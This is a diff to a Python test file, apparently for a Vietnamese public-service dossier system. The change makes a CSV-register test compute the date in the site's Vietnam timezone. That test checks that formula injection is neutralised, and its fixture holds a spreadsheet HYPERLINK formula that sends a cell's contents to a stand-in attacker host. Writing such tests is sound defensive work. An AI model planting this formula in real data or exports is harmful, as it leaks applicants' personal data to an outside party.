@@ -9,8 +9,8 @@ from __future__ import annotations
 import csv
 import io
 import json
-import time
 import urllib.parse
+from datetime import datetime
 from pathlib import Path
 
 import pytest
@@ -19,6 +19,7 @@ from hub.ops import security
 from hub.ops.run import Runner
 from hub.store import tokens
 from motcua.cli import main as cli_main
+from motcua_core import clock as wallclock
 from tests.dossier.conftest import APPLICANT, DossierHub
 from tests.dossier.test_public_lookup import _receive
 from tests.security.conftest import Client
@@ -78,7 +79,7 @@ def test_register_csv_neutralises_formulas_from_an_applicant(dhub: DossierHub, t
     evil = {**APPLICANT, "name": "@Trần Thị Bình", "address": '=HYPERLINK("http://evil.example/?d="&B2,"Xem")',
             "phone": "0912345670"}
     got = desk.intake("cap-phep-xay-dung-lien-thong", evil, [0, 1, 2])
-    day = time.strftime("%Y-%m-%d", time.localtime(dhub.h.clock()))
+    day = datetime.fromtimestamp(dhub.h.clock(), wallclock.VIETNAM).date().isoformat()  # the site's day, not the host's
     status, body = dhub.http("GET", f"/api/v1/sites/demo/register.csv?from={day}&to={day}", token=_leader(dhub))
     assert status == 200
     rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
